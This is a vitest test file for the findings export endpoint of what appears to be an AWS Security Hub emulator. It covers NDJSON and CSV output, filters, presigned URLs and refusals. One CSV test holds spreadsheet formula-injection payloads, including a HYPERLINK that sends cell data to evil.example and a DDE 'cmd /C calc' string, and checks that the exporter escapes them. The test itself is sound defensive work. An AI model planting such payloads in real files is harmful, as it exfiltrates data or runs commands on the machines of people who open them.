import { request } from 'node:http';
import { Sha256 } from '@aws-crypto/sha256-js';
import { SignatureV4 } from '@smithy/signature-v4';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Client } from '../testing/client.js';
import { byId, finding, identifier, minute } from '../testing/findings.js';
import { REGION, ROOT, type RunningHub, startTestHub } from '../testing/hub.js';
import { expectRefusal } from '../testing/refusal.js';
import { openSocket, requestBytes } from '../testing/socket.js';
import { findingsIn, openExport, parseCsv, textOf } from './testing.js';

const PATH = '/_docket/export';
const OTHER = '111122223333';
/** More than one page. */
const MANY = 250;

let hub: RunningHub;
let other: Client;
beforeAll(async () => {
  hub = await startTestHub();
  other = await hub.account(OTHER);
  for (let first = 0; first < MANY; first += 50) {
    await hub.root.importFindings(
      Array.from({ length: 50 }, (_, i) =>
        finding(`many/${first + i}`, {
          UpdatedAt: minute(first + i),
          Severity: { Label: i % 2 === 0 ? 'LOW' : 'HIGH' },
        }),
      ),
    );
  }
  const own = {
    AwsAccountId: OTHER,
    ProductArn: `arn:aws:securityhub:${REGION}:${OTHER}:product/${OTHER}/default`,
  };
  await other.importFindings([finding('of another account', own)]);
});
afterAll(() => hub.close());

const exported = async (asked: Parameters<typeof openExport>[1], client = hub.root) =>
  textOf(await openExport(client, asked));
const idsOf = (findings: readonly Record<string, unknown>[]) => findings.map(({ Id }) => Id).sort();
const prefix = (Value: string) => ({ Id: [{ Value, Comparison: 'PREFIX' }] });

describe('NDJSON', () => {
  test('has every finding of the account, as GetFindings gives it', async () => {
    const response = await openExport(hub.root);
    expect(response).toMatchObject({
      statusCode: 200,
      headers: {
        'content-type': 'application/x-ndjson',
        'content-disposition': expect.stringMatching(
          /^attachment; filename="findings-123456789012-eu-west-1-\d{4}-\d\d-\d\d\.ndjson"$/,
        ),
        'x-amzn-requestid': expect.stringMatching(/^[0-9a-f-]{36}$/),
        'transfer-encoding': 'chunked',
      },
    });
    const findings = findingsIn(await textOf(response));
    expect(response.complete).toBe(true);
    const byId = (all: readonly Record<string, unknown>[]) => new Map(all.map((one) => [one.Id, one]));
    expect(findings).toHaveLength(MANY);
    expect(byId(findings)).toEqual(byId(await hub.root.allFindings()));
  });

  test('is of the account and Region of the call', async () => {
    expect(idsOf(findingsIn(await exported({ query: {} }, other)))).toEqual(['of another account']);
    const elsewhere = await hub.account('444455556666', { hub: false });
    await hub.admin('POST', '/accounts/444455556666/hubs', { Region: REGION });
    expect(await exported({ query: {} }, elsewhere)).toBe('');
  });

  test('is of what a filter selects, by GET or by POST', async () => {
    const filters = { ...prefix('many/1'), SeverityLabel: [{ Value: 'HIGH', Comparison: 'EQUALS' }] };
    const expected = idsOf(await hub.root.allFindings({ Filters: filters }));
    expect(expected.length).toBeGreaterThan(20);
    expect(idsOf(findingsIn(await exported({ query: { filters: JSON.stringify(filters) } })))).toEqual(
      expected,
    );
    expect(idsOf(findingsIn(await exported({ body: { Filters: filters } })))).toEqual(expected);
    expect(await exported({ body: { Filters: prefix('nothing') } })).toBe('');
  });

  test('has an order if it is asked for', async () => {
    const SortCriteria = [{ Field: 'UpdatedAt', SortOrder: 'desc' }];
    const ids = findingsIn(await exported({ body: { SortCriteria } })).map(({ Id }) => Id);
    expect(ids).toEqual(Array.from({ length: MANY }, (_, i) => `many/${MANY - 1 - i}`));
  });

  test('can be had by a presigned URL, which leaves its signature out of the parameters', async () => {
    const { host, hostname, port } = new URL(hub.url);
    const { credentials } = hub.root.options;
    if (credentials === undefined) throw new Error('the root signs');
    const signer = new SignatureV4({ credentials, region: REGION, service: 'securityhub', sha256: Sha256 });
    const query = { format: 'csv', columns: 'Id', filters: JSON.stringify(prefix('many/24')) };
    const plain = { method: 'GET', protocol: 'http:', hostname, path: PATH, query, headers: { host } };
    const signed = await signer.presign(plain);
    const pairs = Object.entries(signed.query ?? {}).map(([name, value]): [string, string] => [
      name,
      String(value),
    ]);
    const path = `${PATH}?${new URLSearchParams(pairs).toString().replaceAll('+', '%20')}`;
    const text = await new Promise<string>((resolve, reject) => {
      request({ hostname, port, path, agent: false }, (response) => {
        textOf(response).then(resolve, reject);
      }).end();
    });
    expect(parseCsv(text).flat().sort()).toEqual([
      'Id',
      'many/24',
      ...Array.from('0123456789', (n) => `many/24${n}`),
    ]);
  });
});

describe('CSV', () => {
  test('has a head and a line of each finding', async () => {
    const filters = JSON.stringify(byId('many/7').Filters);
    const query = {
      format: 'csv',
      columns: 'Id,Severity.Label,Severity.Normalized,UpdatedAt,Note.Text,Types',
    };
    const response = await openExport(hub.root, { query: { ...query, filters } });
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': expect.stringMatching(/\.csv"$/),
    });
    expect(await textOf(response)).toBe(
      `Id,Severity.Label,Severity.Normalized,UpdatedAt,Note.Text,Types\r\n` +
        `many/7,HIGH,70,${minute(7)},,Software and Configuration Checks/Vulnerabilities/CVE\r\n`,
    );
  });

  test('of everything has the usual columns', async () => {
    const [head = [], ...rows] = parseCsv(await exported({ body: { Format: 'csv' } }));
    expect(head.slice(0, 3)).toEqual(['Id', 'Title', 'Severity.Label']);
    expect(head).toContain('Resources.Id');
    expect(rows).toHaveLength(MANY);
    expect(rows.every(({ length }) => length === head.length)).toBe(true);
    const label = head.indexOf('Severity.Label');
    expect(rows.filter((row) => row[label] === 'HIGH')).toHaveLength(MANY / 2);
  });

  test('of nothing is a head', async () => {
    const body = { Format: 'csv', Columns: ['Id', 'Title'], Filters: prefix('nothing') };
    expect(await exported({ body })).toBe('Id,Title\r\n');
  });

  test('joins lists, quotes what must be quoted, and runs nothing', async () => {
    const hostile = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
    await hub.root.importFindings([
      finding('hostile', {
        Title: hostile,
        Description: "@SUM(1+1)*cmd|' /C calc'!A0",
        Severity: { Label: 'LOW', Product: -3.5 },
        Types: ['a', '=b', 'c'],
        ProductFields: { tab: '\t=1+1', ['__proto__']: '-1', 'a.b': 'two\nlines, "quoted"' },
        Resources: [
          { Type: 'Other', Id: '+r1', Tags: { owner: 'é😀' } },
          { Type: 'Other', Id: 'r2' },
        ],
      }),
    ]);
    const Columns = [
      ...[
        'Title',
        'Description',
        'Severity.Product',
        'Types',
        'ProductFields.tab',
        'ProductFields.__proto__',
      ],
      ...['ProductFields.a.b', 'Resources.Id', 'Resources.Tags.owner', 'Severity', 'ProductFields.toString'],
    ];
    const text = await exported({ body: { Format: 'csv', Columns, Filters: byId('hostile').Filters } });
    expect(parseCsv(text)).toEqual([
      Columns,
      [
        ...[`'${hostile}`, "'@SUM(1+1)*cmd|' /C calc'!A0", '-3.5', 'a | =b | c', "'\t=1+1", "'-1"],
        ...['two\nlines, "quoted"', "'+r1 | r2", 'é😀', '{"Label":"LOW","Product":-3.5,"Normalized":1}', ''],
      ],
    ]);
  });
});

describe('is refused', () => {
  const invalid = async (asked: { query: Record<string, string> } | { body: object }, message: unknown) => {
    const answer =
      'query' in asked
        ? await hub.root.call('GET', PATH, undefined, asked)
        : await hub.root.call('POST', PATH, asked.body);
    expectRefusal(answer, 400, 'InvalidInputException', message);
  };
  const columns = (Columns: unknown) => ({ body: { Format: 'csv', Columns } });

  test('for filters as GetFindings refuses them', async () => {
    const wrong = [
      { Title: [{ Value: 'x', Comparison: 'LIKE' }] },
      { Nonsense: [] },
      { CreatedAt: [{ DateRange: { Value: 'x', Unit: 'DAYS' } }] },
      [],
      'text',
    ];
    for (const Filters of wrong) {
      const { json } = await hub.root.getFindings({ Filters });
      const { Message } = Object(json);
      expect(Message).toMatch(/^Invalid Filters in the input: data/);
      await invalid({ body: { Filters } }, Message);
      await invalid({ query: { filters: JSON.stringify(Filters) } }, Message);
    }
    await invalid(
      { query: { filters: '{"Id":' } },
      'Invalid Filters in the input: the parameter filters is not JSON',
    );
    const SortCriteria = [{ Field: 'Nonsense' }];
    const { json } = await hub.root.getFindings({ SortCriteria });
    await invalid({ body: { SortCriteria } }, Object(json).Message);
  });

  test.each([
    'Nonsense',
    'severity.label',
    'Severity.Nonsense',
    'Severity.',
    '.Id',
    'Id.x',
    'Resources.0.Id',
    'ProductFields.',
    'Resources.Tags.',
    '__proto__',
    'toString',
    '',
  ])('for the column %j', async (name) => {
    const message = `Unknown column ${JSON.stringify(name)}: expected a path into a finding, such as Severity.Label`;
    await invalid(columns(['Id', name]), message);
    await invalid({ query: { format: 'csv', columns: `Id,${name}` } }, message);
  });

  test.each([
    ['another format', { query: { format: 'xml' } }, 'Format must be ndjson or csv'],
    ['an empty format', { query: { format: '' } }, 'Format must be ndjson or csv'],
    [
      'columns of NDJSON',
      { query: { columns: 'Id' } },
      'Columns are for the format csv: NDJSON has whole findings',
    ],
    [
      'a parameter that there is not',
      { query: { filter: '{}' } },
      'Unknown parameter "filter": expected format, filters, columns',
    ],
    [
      'a member that there is not',
      { body: { filters: {} } },
      'Unknown member "filters": expected Filters, Format, Columns, SortCriteria, Closed',
    ],
    ['a number of the trend without a day', { body: { Closed: { Event: 'Resolved' } } }, 'Date is required'],
    [
      'a member that every object has',
      JSON.parse('{"body":{"__proto__":1}}'),
      'Unknown member "__proto__": expected Filters, Format, Columns, SortCriteria, Closed',
    ],
    ['no columns', columns([]), 'Columns must be a list of 1 to 200'],
    ['many columns', columns(Array.from({ length: 201 }, () => 'Id')), 'Columns must be a list of 1 to 200'],
    ['columns as text', columns('Id'), 'Columns must be a list of paths into a finding'],
    ['columns that are numbers', columns([7]), 'Columns must be a list of paths into a finding'],
    ['a long name', columns(['x'.repeat(5000)]), expect.stringMatching(/^Unknown column "x{512}…"/)],
  ])('for %s', async (_, asked, message) => {
    await invalid(asked, message);
  });

  test('for parameters given twice, or in the wrong place', async () => {
    const target = `${PATH}?format=csv&format=ndjson`;
    const trusted = await startTestHub({ auth: 'trust' });
    try {
      const ask = async (method: string, path: string) => {
        const { hostname, port } = new URL(trusted.url);
        return new Promise<string>((resolve, reject) => {
          request({ hostname, port, method, path, agent: false }, (response) => {
            textOf(response).then(resolve, reject);
          }).end();
        });
      };
      expect(await ask('GET', target)).toContain('The parameter format must be given once');
      expect(await ask('POST', target)).toContain('A POST has its parameters in the body');
    } finally {
      await trusted.close();
    }
  });

  test('for those who may not read findings, or have no hub', async () => {
    const policy = (Effect: string, Action: string) => ({
      Version: '2012-10-17',
      Statement: [{ Effect, Action, Resource: '*' }],
    });
    const arn = `arn:aws:securityhub:${REGION}:${ROOT}:hub/default`;
    const importer = await hub.user(ROOT, 'importer', [policy('Allow', 'securityhub:BatchImportFindings')]);
    expectRefusal(
      await importer.call('GET', PATH),
      403,
      'AccessDeniedException',
      `User: arn:aws:iam::${ROOT}:user/importer is not authorized to perform: securityhub:GetFindings on resource: ${arn}` +
        ' because no identity-based policy allows the securityhub:GetFindings action',
    );
    const reader = await hub.user(ROOT, 'reader', [policy('Allow', 'securityhub:GetFindings')]);
    expect(findingsIn(await exported({ query: {} }, reader)).length).toBeGreaterThan(MANY - 1);
    expectRefusal(
      await hub.root.call('GET', PATH, undefined, { region: 'us-east-1' }),
      401,
      'InvalidAccessException',
      `Account ${ROOT} is not subscribed to AWS Security Hub`,
    );
    expect((await hub.client().call('GET', PATH)).status).toBe(403);
  });

  test('over HTTP/1.0, where nobody could tell a broken-off answer from a whole one', async () => {
    const connection = await openSocket(hub.url);
    const bytes = await requestBytes(hub.root, { method: 'GET', path: PATH }, Buffer.alloc(0));
    await connection.write(Buffer.from(bytes.toString('latin1').replace(' HTTP/1.1', ' HTTP/1.0'), 'latin1'));
    expect(await connection.rest()).toContain('An export needs HTTP/1.1 or later');
  });
});

test('a decision that was made is in the next export', async () => {
  await hub.root.importFindings([finding('decided')]);
  await hub.root.updateFindings({
    FindingIdentifiers: [identifier('decided')],
    Workflow: { Status: 'SUPPRESSED' },
  });
  const [only] = findingsIn(await exported({ body: byId('decided') }));
  expect(only).toMatchObject({ Id: 'decided', Workflow: { Status: 'SUPPRESSED' } });
});
